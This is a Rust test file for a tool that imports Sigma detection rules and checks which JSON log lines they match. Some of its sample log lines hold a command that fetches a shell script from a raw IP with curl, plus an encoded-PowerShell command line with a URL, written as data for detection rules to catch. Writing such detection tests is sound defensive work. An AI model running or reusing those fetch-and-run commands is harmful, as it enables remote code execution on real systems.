//! Sigma rules of the common shapes: each becomes rules that take the lines that Sigma says, or is refused by line and name.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test stops where it fails")]

use recount::examples;
use recount::options::Options;
use recount::pipeline::map_text;
use recount::rule::import::sigma;
use recount::rule::load::{RuleFile, Ruleset, load};

/// Returns the detection as a rule, with two proofs beside those it made itself.
fn imported(detection: &str) -> Ruleset {
    let imported = sigma(&format!("title: Odd thing\nlevel: high\ndetection:\n{detection}"), "odd");
    assert_eq!(imported.refused, [], "{detection}");
    let mut toml = imported.toml;
    if !imported.notes.is_empty() {
        // What a regex asks for is not made up: the team adds it.
        toml.push_str("  [[rule.hit]]\n  text = '{\"time\":\"2024-03-15T10:00:00Z\",\"msg\":\"x\",\"cmd\":\"curl -s http://203.0.113.9/a.sh\"}'\n");
        toml.push_str(
            "  [[rule.miss]]\n  text = '{\"time\":\"2024-03-15T10:00:00Z\",\"msg\":\"y\"}'\n",
        );
    }
    let rules = load(&[RuleFile { path: "odd.toml".into(), source: toml.clone() }]).unwrap();
    let (count, failures) = examples::run(&rules);
    let failures: Vec<&str> = failures.iter().map(|one| one.message.as_str()).collect();
    assert!(failures.is_empty() && count > 0, "{failures:?}\n{toml}");
    rules
}

/// Returns which of some JSON lines, given without their time, the rules take.
fn taken(detection: &str, lines: &[&str]) -> Vec<bool> {
    let rules = imported(detection);
    let text: Vec<String> = (0..)
        .zip(lines)
        .map(|(at, line)| format!("{{\"time\":\"2024-03-15T10:{at:02}:00Z\",{line}}}\n"))
        .collect();
    let harvest = map_text("odd.json", text.concat().as_bytes(), &rules, &Options::default());
    let hit: Vec<u64> = harvest.events.iter().map(|event| event.evidence[0].origin.line).collect();
    (1..).zip(lines).map(|(line, _)| hit.contains(&line)).collect()
}

#[test]
fn keywords_stand_anywhere_in_the_message() {
    let detection = "  words:\n    - 'out of memory'\n    - 'oom*kill'\n  condition: words\n";
    let lines = [
        r#""msg":"web-1: Out Of Memory, giving up""#,
        r#""message":"OOM: will kill 12""#,
        r#""msg":"memory is fine""#,
    ];
    assert_eq!(taken(detection, &lines), [true, true, false]);
}

#[test]
fn contains_all_asks_for_each() {
    let detection = "  s:\n    cmd|contains|all:\n      - ' -enc'\n      - http\n  condition: s\n";
    let lines = [
        r#""msg":"run","cmd":"pwsh -ENC x HTTP://a""#,
        r#""msg":"run","cmd":"pwsh -enc x""#,
        r#""msg":"run""#,
    ];
    assert_eq!(taken(detection, &lines), [true, false, false]);
}

#[test]
fn a_regex_is_taken_as_it_stands() {
    let detection = "  s:\n    cmd|re: 'curl\\s+.*https?://\\d+\\.'\n  condition: s\n";
    let lines = [
        r#""msg":"run","cmd":"curl -s http://203.0.113.9/a.sh""#,
        r#""msg":"run","cmd":"CURL -s http://203.0.113.9/a.sh""#,
        r#""msg":"run","cmd":"curl -s http://example.com""#,
    ];
    assert_eq!(taken(detection, &lines), [true, false, false]);
    let any_case = detection.replace("|re:", "|re|i:");
    assert_eq!(taken(&any_case, &lines), [true, true, false]);
}

#[test]
fn endings_are_those_of_the_whole_value() {
    let detection =
        "  s:\n    image|endswith:\n      - '\\cmd.exe'\n      - '\\pwsh.exe'\n  condition: s\n";
    let lines =
        [r#""msg":"run","image":"C:\\bin\\PWSH.exe""#, r#""msg":"run","image":"C:\\cmd.exe.bak""#];
    assert_eq!(taken(detection, &lines), [true, false]);
}

#[test]
fn one_of_several_selections_is_enough() {
    let detection = "  selection_a:\n    user: root\n  selection_b:\n    port: 22\n  other:\n    user: ada\n  \
                     condition: 1 of selection*\n";
    let lines = [
        r#""msg":"login","user":"root""#,
        r#""msg":"login","user":"bo","port":22"#,
        r#""msg":"login","user":"ada""#,
    ];
    assert_eq!(taken(detection, &lines), [true, true, false]);
}

#[test]
fn a_filter_takes_out_what_it_names_whole() {
    let detection = "  s:\n    action: delete\n  filter:\n    user: backup\n    host: b1\n  \
                     condition: s and not filter\n";
    let lines = [
        r#""msg":"x","action":"delete","user":"ada""#,
        r#""msg":"x","action":"delete","user":"backup","host":"b1""#,
        r#""msg":"x","action":"delete","user":"backup","host":"b2""#,
        r#""msg":"x","action":"read","user":"ada""#,
    ];
    assert_eq!(taken(detection, &lines), [true, false, true, false]);
}

#[test]
fn presence_with_a_filter_fires_only_where_the_field_is() {
    let detection = "  s:\n    target|exists: true\n  filter:\n    target|startswith: test-\n  \
                     condition: s and not filter\n";
    let lines = [r#""msg":"x","target":"db-1""#, r#""msg":"x","target":"test-1""#, r#""msg":"x""#];
    assert_eq!(taken(detection, &lines), [true, false, false]);
}

#[test]
fn null_is_a_field_that_is_not_there() {
    let detection = "  s:\n    action: login\n    user: null\n  condition: s\n";
    let lines = [
        r#""msg":"x","action":"login""#,
        r#""msg":"x","action":"login","user":null"#,
        r#""msg":"x","action":"login","user":"ada""#,
    ];
    assert_eq!(taken(detection, &lines), [true, true, false]);
}

#[test]
fn the_message_is_found_whatever_it_is_called() {
    let detection = "  s:\n    msg|contains: 'login failed'\n  condition: s\n";
    let lines = [
        r#""msg":"Login failed for ada""#,
        r#""message":"login failed""#,
        r#""Message":"login failed""#,
        r#""msg":"login","user":"login failed""#,
    ];
    assert_eq!(taken(detection, &lines), [true, true, true, false]);
}

#[test]
fn what_has_no_like_is_refused_with_its_way_out() {
    let told = [
        (
            "count|gte: 5",
            "the modifier `gte` of `count`; numbers are not compared here; write a `re`",
        ),
        (
            "ip|cidr: 10.1.0.0/16",
            "the modifier `cidr` of `ip`; write the addresses as wildcards, such as `10.1.*`",
        ),
        ("a|base64: x", "the modifier `base64` of `a`; values are not decoded here"),
        ("a|re: '(?=x)y'", "look-around"),
    ];
    for (field, what) in told {
        let text = format!("title: T\ndetection:\n  s:\n    b: c\n    {field}\n  condition: s\n");
        let refused = sigma(&text, "s").refused;
        assert_eq!(refused.len(), 1, "{field}");
        assert_eq!(refused[0].line, 5, "{field}");
        assert!(refused[0].what.contains(what), "{}", refused[0].what);
    }
}
